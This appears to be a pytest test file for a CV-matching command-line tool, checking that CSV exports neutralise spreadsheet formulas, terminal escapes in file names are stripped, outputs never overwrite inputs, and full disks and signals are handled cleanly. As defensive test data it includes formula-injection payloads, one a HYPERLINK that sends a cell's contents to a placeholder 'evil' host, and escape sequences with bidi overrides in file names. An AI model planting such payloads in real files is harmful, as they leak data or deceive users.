"""Outputs are safe to open, never over an input, never truncated; signals stop cleanly.

Each test builds its own minimal inputs: formula-like names and skills lines, escape
sequences in names, outputs that are inputs, a full disk, SIGTERM/SIGHUP.
"""

from __future__ import annotations

import csv
import errno
import glob
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

import cvmatch.cli as cli_module
from cvmatch.batch.export import JsonWriter, result_rows
from cvmatch.cli import cli
from cvmatch.cli_runtime import printable
from cvmatch.models import ErrorInfo, FailedExtract, ScoreResult

RESUME = "Jo Doe\n\nSkills\nZendesk, customer service\n"
FORMULAS = ("=HYPERLINK(1)", "@SUM(1)", "+1+cmd", "-2+3")


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


# --- CSV cells that a spreadsheet would run -----------------------------------------------
def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # relative names: the cell starts with the file name
    for stem in FORMULAS:
        Path(f"{stem}.txt").write_text(RESUME, encoding="utf-8")
    Path("\tx.doc").write_text("x", encoding="utf-8")  # a failed row: source and error
    stuffed = 'Skills\n=HYPERLINK("http://evil/?x="&A1,"cv"), Zendesk\n'
    Path("z.txt").write_text(stuffed, encoding="utf-8")
    code, out, _ = run("extract", "*", "--format", "csv")
    assert code == 1
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    rows = list(csv.DictReader(io.StringIO(out)))
    names = sorted([*(f"{stem}.txt" for stem in FORMULAS), "\tx.doc", "z.txt"])
    assert [row["source"] for row in rows] == [
        f"'{name}" if name[0] in "=+-@\t" else name for name in names
    ]
    assert rows[0]["error"].startswith("'\tx.doc: cvmatch does not read")
    assert rows[-1]["unmapped"].startswith("'=HYPERLINK(")


def test_csv_numbers_stay_numbers_and_text_cells_starting_with_a_formula_are_quoted():
    score = ScoreResult(source="=cv.txt", kind="resume", roles=[])
    failed = FailedExtract(source="-cv.txt", error=ErrorInfo(type="X", message="@boom"))
    [row] = result_rows([score])
    assert row["source"] == "'=cv.txt" and row["ok"] is True
    [row] = result_rows([failed])
    assert row["source"] == "'-cv.txt" and row["error"] == "'@boom"
    from cvmatch.batch.export import typed_rows

    assert next(typed_rows([failed]))["source"] == "-cv.txt"  # the DataFrame keeps the data


# --- the terminal -------------------------------------------------------------------------
def test_escape_sequences_in_names_never_reach_the_terminal(tmp_path: Path):
    name = tmp_path / "\x1b]0;owned\x07\x1b[31mred\x1b[0m\u202ecv.txt"
    name.write_text(RESUME, encoding="utf-8")
    code, out, _ = run("score", str(tmp_path), "--format", "table")
    assert code == 0 and "\x1b" not in out and "\u202e" not in out and "\x07" not in out
    assert f"{tmp_path}/redcv.txt" in out
    code, out, _ = run("score", str(tmp_path), "--format", "jsonl")  # data: escaped, exact
    assert "\x1b" not in out and json.loads(out)["source"] == str(name)
    assert printable("\x1b[2J\x9b31m\rcv\u2066.txt\n") == "31mcv.txt\n"


@pytest.mark.skipif(os.name != "posix", reason="POSIX file names are bytes")
def test_a_name_that_is_not_utf8_is_printed_escaped_in_every_format(tmp_path: Path):
    raw = os.fsencode(tmp_path) + b"/cv\xff.txt"
    with open(raw, "wb") as handle:
        handle.write(RESUME.encode())
    escaped = f"{tmp_path}/cv\\xff.txt"
    code, out, _ = run("extract", str(tmp_path), "--format", "jsonl")
    assert code == 0 and json.loads(out)["source"] == escaped and json.loads(out)["source_bytes"]
    code, out, _ = run("extract", str(tmp_path), "--format", "csv")
    assert code == 0 and next(csv.DictReader(io.StringIO(out)))["source"] == escaped
    code, out, _ = run("extract", str(tmp_path))
    assert code == 0 and out.startswith(escaped)


# --- outputs over inputs --------------------------------------------------------------------
def test_an_output_that_is_an_input_or_inside_an_input_folder_is_refused(tmp_path: Path):
    cv = tmp_path / "cv.txt"
    cv.write_text(RESUME, encoding="utf-8")
    posting = tmp_path / "job.txt"
    posting.write_text("Customer service agent\n\nRequirements\n- Zendesk\n", encoding="utf-8")
    folder = tmp_path / "applicants"
    folder.mkdir()
    (folder / "a.txt").write_text(RESUME, encoding="utf-8")
    link = tmp_path / "link.txt"
    link.symlink_to(cv)
    cases = [
        ["extract", str(cv), "-o", str(cv)],
        ["extract", str(link), "-o", str(cv)],
        ["extract", str(folder), "-o", str(folder / "results.txt")],
        ["rank", "--posting", str(posting), str(cv), "-o", str(posting)],
        ["rank", "--posting", str(posting), str(folder), "--report", str(folder / "r.html")],
        ["rank", "--posting", str(posting), str(cv), "-o", str(tmp_path / "x"), "--report",
         str(tmp_path / "x")],
    ]  # fmt: skip
    for args in cases:
        code, _, err = run(*args)
        assert code == 2, args
        assert "input" in err or "same file" in err
    assert cv.read_text(encoding="utf-8") == RESUME
    assert posting.read_text(encoding="utf-8").startswith("Customer service agent")
    assert sorted(p.name for p in folder.iterdir()) == ["a.txt"]


def test_paths_that_hold_no_documents_exit_2(tmp_path: Path):
    (tmp_path / ".DS_Store").write_text("x")
    code, _, err = run("extract", str(tmp_path))
    assert code == 2 and "no documents" in err and "skipped 1 hidden" in err


# --- a full disk ----------------------------------------------------------------------------
def _full_after(rows: int, monkeypatch: pytest.MonkeyPatch) -> None:
    real = JsonWriter.write
    written = []

    def write(self, result):
        if len(written) >= rows:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        written.append(result)
        return real(self, result)

    monkeypatch.setattr(JsonWriter, "write", write)


def test_a_full_disk_leaves_no_truncated_file_and_exits_3(tmp_path, monkeypatch):
    folder = tmp_path / "cvs"
    folder.mkdir()
    for name in ("a.txt", "b.txt", "c.txt"):
        (folder / name).write_text(RESUME, encoding="utf-8")
    target = tmp_path / "out.jsonl"
    target.write_text("the previous, complete results\n", encoding="utf-8")
    _full_after(1, monkeypatch)
    code, _, err = run("extract", str(folder), "--format", "jsonl", "-o", str(target))
    assert code == 3 and "No space left on device" in err and "Traceback" not in err
    assert target.read_text(encoding="utf-8") == "the previous, complete results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cvs", "out.jsonl"]  # no temp left
    monkeypatch.undo()
    monkeypatch.setattr(
        os, "fsync", lambda fd: (_ for _ in ()).throw(OSError(errno.ENOSPC, "full"))
    )
    code, _, err = run("extract", str(folder), "--format", "jsonl", "-o", str(tmp_path / "n.jsonl"))
    assert code == 3 and not (tmp_path / "n.jsonl").exists()


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_dev_full_as_output_exits_3(tmp_path: Path):
    (tmp_path / "a.txt").write_text(RESUME, encoding="utf-8")
    code, _, err = run("extract", str(tmp_path), "--format", "jsonl", "-o", "/dev/full")
    assert code == 3 and "could not write" in err


# --- signals --------------------------------------------------------------------------------
def test_sighup_and_sigterm_stop_like_ctrl_c_and_keep_every_row(tmp_path, monkeypatch):
    for name in ("a.txt", "b.txt", "c.txt", "d.txt"):
        (tmp_path / name).write_text(RESUME, encoding="utf-8")
    real = cli_module.iter_scores

    def stopped(number):
        def results(*args, **kwargs):
            for index, result in enumerate(real(*args, **kwargs)):
                if index == 2:
                    os.kill(os.getpid(), number)
                yield result

        return results

    for number in (signal.SIGHUP, signal.SIGTERM):
        monkeypatch.setattr(cli_module, "iter_scores", stopped(number))
        target = tmp_path.parent / f"out-{number}.jsonl"
        code, _, err = run("score", str(tmp_path), "--format", "jsonl", "-o", str(target))
        assert code == 130 and signal.Signals(number).name in err
        lines = target.read_text(encoding="utf-8").splitlines()
        assert len(lines) == 2 and all(json.loads(line)["ok"] for line in lines)
    assert signal.getsignal(signal.SIGTERM) == signal.SIG_DFL  # handlers restored


def test_a_signal_while_a_row_is_written_waits_for_the_row(tmp_path, monkeypatch):
    for name in ("a.txt", "b.txt", "c.txt"):
        (tmp_path / name).write_text(RESUME, encoding="utf-8")
    real = JsonWriter.write

    def write(self, result):  # the signal arrives in the middle of the row
        self.file.write('{"half": ')
        os.kill(os.getpid(), signal.SIGTERM)
        self.file.write("1}\n")
        return real(self, result)

    monkeypatch.setattr(JsonWriter, "write", write)
    target = tmp_path.parent / "rows.jsonl"
    code, _, _ = run("extract", str(tmp_path), "--format", "jsonl", "-o", str(target))
    assert code == 130
    lines = target.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 2 and json.loads(lines[0]) == {"half": 1}


def _children(pid: int) -> list[int]:
    found = []
    for stat in glob.glob("/proc/[0-9]*/stat"):
        try:
            fields = Path(stat).read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.split("/")[2]))
    return found


def _alive(pid: int) -> bool:
    """Whether ``pid`` runs (a zombie waiting for its reaper is dead)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


_SLOW_CLI = """
import sys, time
import cvmatch.batch.job as job
real = job.Job.run
def run(self, source):
    time.sleep(0.3)
    return real(self, source)
job.Job.run = run
from cvmatch.cli import main
main(sys.argv[1:])
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_stops_the_workers_and_keeps_the_rows(tmp_path: Path):
    folder = tmp_path / "cvs"
    folder.mkdir()
    for index in range(40):
        (folder / f"cv{index:02}.txt").write_text(RESUME, encoding="utf-8")
    target = tmp_path / "out.jsonl"
    args = ["extract", str(folder), "-j", "2", "--format", "jsonl", "-o", str(target), "-q"]
    process = subprocess.Popen(
        [sys.executable, "-c", _SLOW_CLI, *args], stderr=subprocess.PIPE, text=True
    )
    started, workers = time.monotonic(), []
    while time.monotonic() - started < 90 and process.poll() is None:
        workers = _children(process.pid)
        temp = list(tmp_path.glob(".out.jsonl.*.part"))
        if len(workers) >= 2 and temp and temp[0].stat().st_size:
            break
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    assert process.wait(timeout=30) == 130, process.stderr.read()
    assert "SIGTERM" in process.stderr.read()
    assert len(workers) >= 2
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and any(_alive(w) for w in workers):
        time.sleep(0.05)
    assert not [w for w in workers if _alive(w)]  # no orphan
    lines = target.read_text(encoding="utf-8").splitlines()
    assert 1 <= len(lines) < 40 and all(json.loads(line)["ok"] for line in lines)
    assert not list(tmp_path.glob(".out.jsonl.*"))


@pytest.mark.skipif(os.name != "posix", reason="symbolic links")
def test_follow_links_on_the_command_line(tmp_path: Path):
    (tmp_path / "outside.txt").write_text(RESUME, encoding="utf-8")
    folder = tmp_path / "cvs"
    folder.mkdir()
    (folder / "link.txt").symlink_to(tmp_path / "outside.txt")
    code, out, _ = run("extract", str(folder), "--format", "jsonl")
    assert code == 1 and json.loads(out)["error"]["type"] == "LinkOutsideFolder"
    code, out, _ = run("extract", str(folder), "--format", "jsonl", "--follow-links")
    assert code == 0 and json.loads(out)["ok"] is True
